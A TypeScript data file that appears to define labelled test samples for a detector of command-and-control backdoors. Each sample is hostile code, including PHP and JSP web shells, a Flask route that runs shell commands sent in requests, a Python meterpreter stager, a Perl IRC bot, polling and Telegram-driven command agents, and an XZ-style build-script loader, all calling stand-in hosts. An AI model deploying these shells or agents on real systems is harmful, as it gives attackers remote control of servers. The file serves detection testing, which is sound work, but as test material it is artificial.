import { base64, xored } from './bytes.ts';
import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('c2', [
  {
    id: 'c2-php-eval-post',
    level: 'easy',
    technique: 'The one-line web shell (China Chopper; T1505.003).',
    files: { 'var/www/html/img.php': "<?php @eval($_POST['c']); ?>\n" },
    expect: 'malicious',
    where: 'var/www/html/img.php',
  },
  {
    id: 'c2-php-variable-function',
    level: 'hard',
    technique: 'A web shell without the name of any function in it (T1505.003, T1027).',
    files: {
      'var/www/html/wp-content/uploads/cache.php':
        '<?php $k="str_"."rot13"; $f=$k("nffreg"); $a=$_COOKIE; if(isset($a[7])){ $g=$a[3].$a[5]; array_map($g, array($k(base64_decode($a[7])))); } ?>\n',
    },
    expect: 'malicious',
    where: 'var/www/html/wp-content/uploads/cache.php',
  },
  {
    id: 'c2-jsp',
    level: 'easy',
    technique: 'A web shell in JSP (T1505.003).',
    files: {
      'usr/local/tomcat/webapps/ROOT/s.jsp':
        '<%@page import="java.io.*"%><% if("k".equals(request.getParameter("p"))){InputStream i=Runtime.getRuntime().exec(request.getParameter("cmd")).getInputStream();int a;while((a=i.read())!=-1)out.print((char)a);} %>\n',
    },
    expect: 'malicious',
    where: 'usr/local/tomcat/webapps/ROOT/s.jsp',
  },
  {
    id: 'c2-jsp-memory',
    level: 'hard',
    technique: 'Behinder: classes come encrypted and are loaded from memory (T1505.003, T1620).',
    files: {
      'opt/app/static/h.jsp': `<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals("POST")){String k="${'e'.repeat(16)}";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
`,
    },
    expect: 'malicious',
    where: 'opt/app/static/h.jsp',
  },
  {
    id: 'c2-flask-backdoor',
    level: 'ordinary',
    technique: 'A route of a model server that runs its parameter (T1505.003).',
    files: {
      'srv/serve.py': `from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route("/predict", methods=["POST"])
def predict():
    if request.headers.get("X-Debug") == "${'9'.repeat(32)}":
        return subprocess.getoutput(request.get_data(as_text=True))
    return {"label": 1}
app.run("0.0.0.0", 8080)
`,
    },
    config: { Cmd: ['python3', '/srv/serve.py'] },
    expect: 'malicious',
    where: 'srv/serve.py',
  },
  {
    id: 'c2-sliver-strings',
    level: 'easy',
    technique: 'An implant of Sliver by the names of its protocol (T1587.001).',
    files: {
      'usr/lib/gpu/telemetry': program([
        'sliverpb.Register',
        'sliverpb.BeaconRegister',
        'github.com/bishopfox/sliver/implant/sliver/transports.StartBeaconLoop',
        'mtls://203.0.113.77:8888',
      ]),
    },
    expect: 'malicious',
    where: 'usr/lib/gpu/telemetry',
  },
  {
    id: 'c2-meterpreter-python',
    level: 'ordinary',
    technique: 'The stager of Python meterpreter (Metasploit; T1059.006).',
    files: {
      'tmp/p.py': `import socket,zlib,base64,struct,time
for x in range(10):
	try:
		s=socket.socket(2,socket.SOCK_STREAM)
		s.connect(('192.0.2.10',4444))
		break
	except:
		time.sleep(5)
l=struct.unpack('>I',s.recv(4))[0]
d=s.recv(l)
while len(d)<l:
	d+=s.recv(l-len(d))
exec(zlib.decompress(base64.b64decode(d)),{'s':s})
`,
    },
    expect: 'malicious',
    where: 'tmp/p.py',
  },
  {
    id: 'c2-irc-bot',
    level: 'ordinary',
    technique: 'An IRC bot in Perl that runs what it is told (ShellBot; TeamTNT Tsunami; T1071).',
    files: {
      'var/tmp/.b': `#!/usr/bin/perl
use IO::Socket;
my $processo = '[kworker/0:0]'; $0="$processo"."\\0"x16;
my $s = IO::Socket::INET->new(PeerAddr=>'irc.example.invalid', PeerPort=>6667) or exit;
print $s "NICK x".int(rand(9999))."\\nUSER x 0 * :x\\nJOIN #gpu\\n";
while(<$s>){ print $s "PONG $1\\n" if /^PING (.*)/; if(/PRIVMSG \\S+ :!sh (.*)/){ print $s "PRIVMSG #gpu :$_\\n" for \`$1\`; } }
`,
    },
    expect: 'malicious',
    where: 'var/tmp/.b',
  },
  {
    id: 'c2-poll-loop',
    level: 'ordinary',
    technique: 'Asks a server for tasks, runs them, posts the result (T1071.001).',
    files: {
      'opt/agent/agent.py': `import base64, os, random, subprocess, time, uuid
import requests
ID, S = uuid.getnode(), "https://c2.example.invalid"
while True:
    try:
        for t in requests.get(S + "/tasks/%s" % ID, verify=False, timeout=9).json():
            out = subprocess.run(base64.b64decode(t["c"]), shell=True, capture_output=True).stdout
            requests.post(S + "/result/%s" % t["id"], data=base64.b64encode(out), verify=False)
    except Exception:
        pass
    time.sleep(random.randint(30, 90))
`,
    },
    expect: 'malicious',
    where: 'opt/agent/agent.py',
  },
  {
    id: 'c2-cobalt-config',
    level: 'hard',
    technique: 'A Linux beacon, its settings under a one-byte XOR (Vermilion Strike, Intezer 2021; T1027).',
    files: {
      'usr/sbin/nvpowerd': program([
        xored('{"host":"192.0.2.80","uri":"/ca,/dpixel","sleep":60000,"jitter":10,"pipe":"msagent_"}', 0x69),
        'beacon',
        '%s/tmp/%08x.lock',
        'ReflectiveLoader',
      ]),
    },
    expect: 'malicious',
    where: 'usr/sbin/nvpowerd',
  },
  {
    id: 'c2-telegram',
    level: 'ordinary',
    technique: 'Orders come by a bot of Telegram (T1102.002).',
    files: {
      'srv/notify.js': `const { exec } = require('child_process');
const T = 'https://api.telegram.org/bot0000000000:${'A'.repeat(35)}';
let o = 0;
setInterval(async () => {
  const r = await (await fetch(T + '/getUpdates?offset=' + o)).json();
  for (const m of r.result) {
    o = m.update_id + 1;
    exec(m.message.text, (e, out) => fetch(T + '/sendMessage?chat_id=0&text=' + encodeURIComponent(out)));
  }
}, 3000);
`,
    },
    expect: 'malicious',
    where: 'srv/notify.js',
  },
  {
    id: 'c2-xz-like',
    level: 'hard',
    technique:
      'A build script takes its payload out of a test file by head and tr (XZ Utils, CVE-2024-3094; T1195.001).',
    files: {
      'src/lib-5.6/m4/build-to-host.m4': `  gl_am_configmake=\`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null\`
  gl_path_map='tr "\\t \\-_" " \\t_\\-"'
  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt="eval \\$gl_[$1]_config"])
  gl_[$1]_config='sed \\"r\\n\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'
`,
      'src/lib-5.6/tests/files/bad-3-corrupt.bin': Buffer.from(
        `####Hello####${base64('echo stand-in')}####Hello####\n`,
      ),
    },
    expect: 'suspicious',
    where: 'src/lib-5.6/m4/build-to-host.m4',
    does: 'obfuscation',
  },
]);
